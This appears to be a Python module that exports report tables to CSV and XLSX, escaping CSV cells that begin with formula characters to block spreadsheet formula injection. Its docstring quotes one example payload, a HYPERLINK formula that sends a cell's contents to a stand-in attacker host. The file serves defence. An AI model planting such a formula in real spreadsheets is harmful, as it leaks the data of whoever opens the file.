"""Tables as files: CSV (UTF-8 with a BOM, so Excel opens Chinese correctly) and XLSX.

The XLSX writer is the standard library's zipfile and a handful of SpreadsheetML parts (inline strings, no
shared-string table, no styles): enough for Excel, LibreOffice and Numbers to open a table of figures, and
no new dependency. Decimal strings are written as numbers, so a spreadsheet can add them up.

Text comes from users (a customer's name, a lost reason), and a spreadsheet opening a CSV runs any cell that
starts like a formula: `=HYPERLINK("http://evil.example/?d="&A2,"x")` would send the next cell away. So every
CSV text cell that starts with `=`, `+`, `-`, `@`, a tab or a carriage return gets a leading `'` (OWASP's
rule: the cell then reads as text), while numbers, and strings that are plain decimal numbers like
`-1600.00`, stay numbers. XLSX needs no such prefix: its text cells are typed inline strings,
never formulas, and a `'` there would show as part of the name.
"""

from __future__ import annotations

import csv
import io
import re
import zipfile
from typing import Any
from xml.sax.saxutils import escape

from backend.reports.service import Table

BOM = "\ufeff"
NUMBER = re.compile(r"^-?\d+(\.\d+)?$")
# What makes a spreadsheet read a CSV cell as a formula (OWASP, "CSV Injection").
FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def _header(column_label: str, unit: str | None) -> str:
    return f"{column_label} ({unit})" if unit else column_label


def _cell_text(value: Any) -> str:
    if value is None:
        return ""
    text = str(value)
    if isinstance(value, str) and text.startswith(FORMULA_TRIGGERS) and not NUMBER.fullmatch(text):
        return "'" + text
    return text


def to_csv(table: Table) -> bytes:
    out = io.StringIO()
    writer = csv.writer(out, lineterminator="\r\n")
    writer.writerow([_cell_text(_header(c.label, c.unit)) for c in table.columns])
    for row in table.rows:
        writer.writerow([_cell_text(row.get(c.key)) for c in table.columns])
    return (BOM + out.getvalue()).encode("utf-8")


def _column_letter(index: int) -> str:
    letters = ""
    index += 1
    while index:
        index, remainder = divmod(index - 1, 26)
        letters = chr(65 + remainder) + letters
    return letters


def _xml_text(value: str) -> str:
    # XML 1.0 forbids most control characters; a note pasted from elsewhere must not break the file.
    return escape("".join(ch for ch in value if ch in "\t\n\r" or ord(ch) >= 0x20))


def _cell(reference: str, value: Any) -> str:
    if value is None:
        return ""
    if isinstance(value, bool):
        return f'<c r="{reference}" t="b"><v>{int(value)}</v></c>'
    if isinstance(value, int | float) or (isinstance(value, str) and NUMBER.match(value)):
        return f'<c r="{reference}"><v>{value}</v></c>'
    return f'<c r="{reference}" t="inlineStr"><is><t xml:space="preserve">{_xml_text(str(value))}</t></is></c>'


def _sheet(table: Table) -> str:
    lines: list[list[Any]] = [[_header(c.label, c.unit) for c in table.columns]]
    lines += [[row.get(c.key) for c in table.columns] for row in table.rows]
    rows = []
    for r, values in enumerate(lines, start=1):
        cells = "".join(_cell(f"{_column_letter(c)}{r}", v) for c, v in enumerate(values))
        rows.append(f'<row r="{r}">{cells}</row>')
    return (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
        f"<sheetData>{''.join(rows)}</sheetData></worksheet>"
    )


def _sheet_name(name: str, taken: set[str]) -> str:
    clean = re.sub(r"[\[\]:*?/\\]", "_", name)[:31] or "sheet"
    candidate, n = clean, 2
    while candidate.lower() in taken:
        candidate, n = f"{clean[:28]}_{n}", n + 1
    taken.add(candidate.lower())
    return candidate


def to_xlsx(tables: list[Table]) -> bytes:
    """One workbook, one sheet per table (named after the table)."""
    taken: set[str] = set()
    names = [_sheet_name(t.name, taken) for t in tables]
    content_types = (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
        '<Default Extension="xml" ContentType="application/xml"/>'
        '<Override PartName="/xl/workbook.xml" '
        'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>'
        + "".join(
            f'<Override PartName="/xl/worksheets/sheet{i}.xml" '
            'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/>'
            for i in range(1, len(tables) + 1)
        )
        + "</Types>"
    )
    root_rels = (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        '<Relationship Id="rId1" '
        'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" '
        'Target="xl/workbook.xml"/></Relationships>'
    )
    workbook = (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        '<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
        'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><sheets>'
        + "".join(
            f'<sheet name="{escape(name, {chr(34): "&quot;"})}" sheetId="{i}" r:id="rId{i}"/>'
            for i, name in enumerate(names, start=1)
        )
        + "</sheets></workbook>"
    )
    workbook_rels = (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        + "".join(
            f'<Relationship Id="rId{i}" '
            'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" '
            f'Target="worksheets/sheet{i}.xml"/>'
            for i in range(1, len(tables) + 1)
        )
        + "</Relationships>"
    )
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", content_types)
        archive.writestr("_rels/.rels", root_rels)
        archive.writestr("xl/workbook.xml", workbook)
        archive.writestr("xl/_rels/workbook.xml.rels", workbook_rels)
        for i, table in enumerate(tables, start=1):
            archive.writestr(f"xl/worksheets/sheet{i}.xml", _sheet(table))
    return buffer.getvalue()
